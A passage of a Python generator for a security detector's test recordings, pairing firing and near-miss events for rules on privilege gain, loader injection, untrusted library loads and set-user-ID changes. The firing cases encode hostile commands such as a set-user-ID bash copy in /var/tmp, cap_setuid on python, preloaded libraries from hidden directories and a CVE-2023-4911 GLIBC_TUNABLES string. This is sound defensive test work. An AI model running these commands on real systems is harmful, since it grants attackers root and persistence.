    # runc setting a container up; the docker CLI on the host; a host process unsharing
    in_pod(ev("namespace", 13900, 1, "/memfd:runc_cloned:runc (deleted)", uid=0, ns_op="setns",
              ns_flags=["CLONE_NEWNS"])),
    in_pod(ev("mount", 13900, 1, "/memfd:runc_cloned:runc (deleted)", uid=0, mount_op="mount", mount_source="proc",
              mount_target="/proc", mount_fstype="proc", mount_flags=14)),
    exe(13901, 1000, "/usr/bin/docker", ["docker", "ps"]),
    ev("unix_connect", 13901, 1000, "/usr/bin/docker", family="unix", unix_path="/var/run/docker.sock"),
    exe(13902, 1000, "/usr/bin/unshare", ["unshare", "-U", "-r", "id"]),
    ev("namespace", 13902, 1000, "/usr/bin/unshare", ns_op="unshare", ns_flags=["CLONE_NEWUSER"]),
]

R["privilege_gain.fire"] = [
    # an exploit run by uid 1000 turns itself into root (commit_creds) and starts a shell
    exe(14000, 1000, "/home/u/.cache/x", ["./x"], uid=1000, cwd="/home/u"),
    ev("connect", 14000, 1000, "/home/u/.cache/x", uid=1000, family="inet", dst_addr="127.0.0.1", dst_port=53,
       protocol="udp"),
    exe(14000, 1000, "/usr/bin/dash", ["sh"], uid=0, comm="sh", filename="/bin/sh"),
]
R["privilege_gain.miss"] = [
    # sudo (set-user-ID) switches to root and runs the command; a root daemon's worker drops to a user
    exe(14100, 1000, "/usr/bin/sudo", ["sudo", "id"], uid=1000, exe_setuid=True),
    fork(14101, 14100, "/usr/bin/sudo", uid=1000),
    exe(14101, 14100, "/usr/bin/id", ["id"], uid=0),
    exe(14102, 1, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], uid=0, cgroup="/system.slice/cron.service"),
    fork(14103, 14102, "/usr/sbin/cron", uid=0, cgroup="/system.slice/cron.service"),
    exe(14103, 14102, "/usr/bin/dash", ["/bin/sh", "-c", "backup"], uid=1000, filename="/bin/sh",
        cgroup="/system.slice/cron.service"),
]

R["loader_env_injection.fire"] = [
    # a library dropped in /tmp preloaded into a root daemon's restart; LD_AUDIT from a hidden dir
    exe(14200, 1000, "/usr/bin/sleep", ["sleep", "1"], env=["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libm.so.6:/tmp/.x/libz.so"]),
    exe(14201, 1000, "/usr/bin/ls", ["ls"], env=["LD_AUDIT=/home/u/.local/share/.a/audit.so"]),
]
R["loader_env_injection.fire-tunables"] = [
    # CVE-2023-4911: a user starts set-user-ID su with a crafted GLIBC_TUNABLES
    exe(14202, 1000, "/usr/bin/su", ["su", "--help"], exe_setuid=True,
        env=["GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]),
]
R["loader_env_injection.miss"] = [
    # jemalloc preloaded by a service, a bare name, CUDA's LD_LIBRARY_PATH carried into sudo, root's tunables
    exe(14300, 1, "/usr/sbin/mysqld", ["/usr/sbin/mysqld"], uid=105, cwd="/",
        env=["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"], cgroup="/system.slice/mysql.service"),
    exe(14301, 1000, "/usr/bin/faketime", ["faketime", "x"], env=["LD_PRELOAD=libfaketime.so.1"]),
    exe(14302, 1000, "/usr/bin/sudo", ["sudo", "id"], exe_setuid=True,
        env=["LD_LIBRARY_PATH=/usr/local/cuda/lib64"]),
    exe(14303, 1000, "/usr/bin/python3.11", ["python3"], env=["LD_LIBRARY_PATH=/tmp/venv/lib"]),
    exe(14304, 1, "/usr/bin/passwd", ["passwd", "-S"], uid=0, exe_setuid=True, env=["GLIBC_TUNABLES=glibc.malloc.check=3"]),
]
R["untrusted_library_load.fire"] = [
    # dlopen() of a library dropped in /dev/shm, of a memfd, of a deleted file
    exe(14400, 1000, "/usr/bin/python3.11", ["python3", "-c", "..."]),
    ev("mmap", 14400, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_FIXED", "MAP_DENYWRITE"], fd=3, addr=140000000, len=4096,
       path="/dev/shm/.cache/libx.so", map_file=["shared_dir"], inode=4242),
    ev("mmap", 14400, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_FIXED", "MAP_DENYWRITE"], fd=4, addr=140100000, len=4096,
       path="/memfd:payload (deleted)", map_file=["memfd"], inode=4243),
    ev("mmap", 14400, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_FIXED", "MAP_DENYWRITE"], fd=5, addr=140200000, len=4096,
       path="/var/lib/x/libgone.so", map_file=["deleted"], inode=4244),
]
R["untrusted_library_load.miss"] = [
    # a JVM loading the netty native library it extracted into /tmp; a build's test program loading the
    # library it just linked (make -> sh -> lt-test)
    exe(14500, 1000, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["java", "-jar", "app.jar"]),
    ev("mmap", 14500, 1000, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", prot=["PROT_READ", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_FIXED", "MAP_DENYWRITE"], fd=7, addr=140300000, len=65536,
       path="/tmp/libnetty_transport_native_epoll_x86_641234.so", map_file=["shared_dir"], inode=4245),
    exe(14501, 1000, "/usr/bin/make", ["make", "check"], cwd="/tmp/build"),
    exe(14502, 14501, "/usr/bin/dash", ["/bin/sh", "-c", "./lt-test"], filename="/bin/sh", cwd="/tmp/build"),
    exe(14503, 14502, "/tmp/build/.libs/lt-test", ["./lt-test"], cwd="/tmp/build"),
    ev("mmap", 14503, 14502, "/tmp/build/.libs/lt-test", prot=["PROT_READ", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_FIXED", "MAP_DENYWRITE"], fd=3, addr=140400000, len=4096,
       path="/tmp/build/.libs/libfoo.so.0", map_file=["shared_dir"], inode=4246),
]
R["setuid_set.fire"] = [
    # a root shell copy made set-user-ID; python given cap_setuid
    exe(14700, 1000, "/usr/bin/cp", ["cp", "/bin/bash", "/var/tmp/.b"], uid=0),
    exe(14701, 1000, "/usr/bin/chmod", ["chmod", "u+s", "/var/tmp/.b"], uid=0),
    fil(14701, 1000, "/var/tmp/.b", "/usr/bin/chmod", ["setuid"], file_mode=2541),
    exe(14702, 1000, "/usr/sbin/setcap", ["setcap", "cap_setuid+ep", "/usr/bin/python3.11"], uid=0),
    fil(14702, 1000, "/usr/bin/python3.11", "/usr/sbin/setcap", ["setcap"]),
]
R["setuid_set.miss"] = [
    # dpkg installing sudo; make install of a set-user-ID helper
    exe(14800, 1000, "/usr/bin/dpkg", ["dpkg", "-i", "sudo.deb"], uid=0),
    fil(14800, 1000, "/usr/bin/sudo", "/usr/bin/dpkg", ["setuid"], file_mode=2541),
    exe(14801, 1000, "/usr/bin/make", ["make", "install"], uid=0, cwd="/home/u/src"),
    exe(14802, 14801, "/usr/bin/install", ["install", "-m", "4755", "helper", "/usr/local/libexec/helper"], uid=0,
        cwd="/home/u/src"),
    fil(14802, 14801, "/usr/local/libexec/helper", "/usr/bin/install", ["setuid"], file_mode=2541),
]
R["compat_exec.fire"] = [
    exe(14600, 1000, "/tmp/.x/implant32", ["./implant32"], compat=True, cwd="/tmp/.x"),
]
R["compat_exec.miss"] = [
    exe(14601, 1000, "/usr/bin/file", ["file", "/tmp/.x/implant32"]),
]

# recordings where a second rule fires, rightly, on the same events
EXPECT_ALSO = {
    "privilege_gain.fire": ["privilege_escalation_shell"],              # the exploit's root shell, user parent
    "compat_exec.fire": ["suspicious_exec", "hidden_exec"],             # run from a hidden dir under /tmp
}

def main():
    for name, events in R.items():
        rule, kind = name.rsplit(".", 1)
        rule = RULE_OF.get(rule, rule)
        fire = kind.split("-")[0] == "fire"   # <rule>.fire-<case>: one bypass per file, so each must fire
        with open(os.path.join(HERE, name + ".jsonl"), "w") as f:
            f.write("# %s recording for rule %s (generated by gen_recordings.py)\n" %
                    ("firing" if fire else "near-miss", rule))
            f.write("# expect: %s\n" % (" ".join(sorted([rule] + EXPECT_ALSO.get(name, []))) if fire else ""))
            for e in BASE + events:
                f.write(json.dumps(e, separators=(",", ":")) + "\n")

main()
